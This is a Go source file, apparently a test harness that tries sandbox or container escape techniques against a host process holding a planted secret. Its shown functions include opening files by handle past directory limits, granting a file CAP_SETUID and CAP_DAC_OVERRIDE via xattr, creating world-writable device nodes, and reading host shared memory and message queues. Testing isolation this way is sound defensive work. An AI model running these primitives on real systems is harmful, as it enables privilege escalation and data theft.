package main

import (
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func attacks() map[string]func(words) (string, error) {
	return map[string]func(words) (string, error){
		"hold": hold, // not an attack: the process of the host that is attacked

		"unix": connectUnix, "unixgram": sendUnix, "tcp": connectTCP, "udp": sendUDP,
		"raw":      socketOf(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP),
		"packet":   socketOf(unix.AF_PACKET, unix.SOCK_RAW, 0x0300),
		"vsock":    socketOf(unix.AF_VSOCK, unix.SOCK_STREAM, 0),
		"link":     addLink,
		"handle":   openByHandle,
		"ptrace":   ptraceRead,
		"vmread":   vmRead,
		"pidfd":    pidfdFile,
		"prlimit":  lowerLimit,
		"priority": priority,
		"affinity": affinity,
		"realtime": realtime,
		"shm":      sharedMemory,
		"queue":    queue,

		"chmod": chmodAt, "chmodat2": chmodAt2, "create": createWith, "mknod": makeNode, "setcap": setCapability,
		"tmpfile": tmpFile,

		"keyring": keyring, "bpf": bpfMap, "perf": perfEvent, "uring": ioUring, "userfault": userFault,
		"tiocsti": typeInput, "syslog": kernelLog, "swap": swap, "reboot": reboot,
		"clock": setClock, "acct": account, "kcmp": compare, "nnp": noNewPrivileges,
		"opentree": openTree, "fsopen": fsOpen, "chroot": chrootOut, "clone": cloneSpaces, "clone3": cloneSpaces3,

		"threads": threads, "memory": memory, "fill": fill, "files": openFiles,
	}
}

// hold keeps a secret in its memory, in its environment and in an open file, says where, and waits.
func hold(w words) (string, error) {
	f, err := os.Open(w.at(0))
	if err != nil {
		return "", err
	}
	secret, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|unix.MAP_PRIVATE)
	if err != nil {
		return "", err
	}
	copy(secret, os.Getenv("ESCAPES_SECRET"))
	fmt.Fprintf(os.Stdout, "%d %d\n", uintptr(unsafe.Pointer(&secret[0])), f.Fd())
	_, err = os.Stdin.Read(make([]byte, 1)) // until the test is over
	runtime.KeepAlive(f)
	return "", err
}

// openByHandle opens a file by its handle, which passes by every directory in between.
func openByHandle(w words) (string, error) {
	raw, err := hex.DecodeString(w.at(2))
	if err != nil {
		return "", err
	}
	dir, err := unix.Open(w.at(0), unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", err
	}
	fd, err := unix.OpenByHandleAt(dir, unix.NewFileHandle(int32(w.num(1)), raw), unix.O_RDONLY)
	if err != nil {
		return "", err
	}
	return read(fd)
}

func read(fd int) (string, error) {
	buf := make([]byte, 4096)
	n, err := unix.Read(fd, buf)
	return string(buf[:max(n, 0)]), err
}

func chmodAt(w words) (string, error) {
	return "", unix.Fchmodat(unix.AT_FDCWD, w.at(1), mode(w.at(0)), 0)
}

func chmodAt2(w words) (string, error) {
	p, err := unix.BytePtrFromString(w.at(1))
	if err != nil {
		return "", err
	}
	at := unix.AT_FDCWD
	if _, _, e := unix.Syscall6(unix.SYS_FCHMODAT2, uintptr(at), uintptr(unsafe.Pointer(p)),
		uintptr(mode(w.at(0))), 0, 0, 0); e != 0 {
		return "", e
	}
	return "", nil
}

func mode(s string) uint32 {
	m, err := strconv.ParseUint(s, 8, 32)
	if err != nil {
		return 0o755
	}
	return uint32(m)
}

// createWith makes a file with the mode at once, by the system call named.
func createWith(w words) (string, error) {
	unix.Umask(0)
	m, path := mode(w.at(1)), w.at(2)
	switch w.at(0) {
	case "open":
		_, err := unix.Open(path, unix.O_CREAT|unix.O_RDWR|unix.O_EXCL, m)
		return "", err
	case "openat2":
		_, err := unix.Openat2(unix.AT_FDCWD, path,
			&unix.OpenHow{Flags: unix.O_CREAT | unix.O_RDWR, Mode: uint64(m)})
		return "", err
	case "creat":
		_, err := unix.Creat(path, m)
		return "", err
	case "mknod":
		return "", unix.Mknod(path, unix.S_IFREG|m, 0)
	case "mkdir":
		return "", unix.Mkdir(path, m)
	}
	return "", errors.New("no such way")
}

// tmpFile makes a file without a name, gives it content and the mode, and then a name.
func tmpFile(w words) (string, error) {
	unix.Umask(0)
	fd, err := unix.Open(w.at(1), unix.O_TMPFILE|unix.O_RDWR, mode(w.at(0)))
	if err != nil {
		return "", err
	}
	return "", unix.Linkat(unix.AT_FDCWD, fmt.Sprintf("/proc/self/fd/%d", fd), unix.AT_FDCWD, w.at(2),
		unix.AT_SYMLINK_FOLLOW)
}

func makeNode(w words) (string, error) {
	kind := uint32(unix.S_IFCHR)
	if w.at(0) == "b" {
		kind = unix.S_IFBLK
	}
	return "", unix.Mknod(w.at(3), kind|0o666, int(unix.Mkdev(uint32(w.num(1)), uint32(w.num(2)))))
}

// setCapability gives a file CAP_SETUID and CAP_DAC_OVERRIDE.
func setCapability(w words) (string, error) {
	value := make([]byte, 20)
	copy(value, []byte{1, 0, 0, 2, 0x82, 0, 0, 0})
	return "", unix.Setxattr(w.at(0), "security.capability", value, 0)
}

// sharedMemory reads a System V segment by its key.
func sharedMemory(w words) (string, error) {
	id, err := unix.SysvShmGet(w.num(0), 0, 0)
	if err != nil {
		return "", err
	}
	b, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return "", err
	}
	text, _, _ := strings.Cut(string(b), "\x00")
	return text, nil
}

// queue opens a POSIX message queue of the host.
func queue(w words) (string, error) {
	p, err := unix.BytePtrFromString(w.at(0))
	if err != nil {
		return "", err
	}
	if _, _, e := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(p)), unix.O_RDWR, 0, 0, 0, 0); e != 0 {
		return "", e
	}
	return got(), nil
}
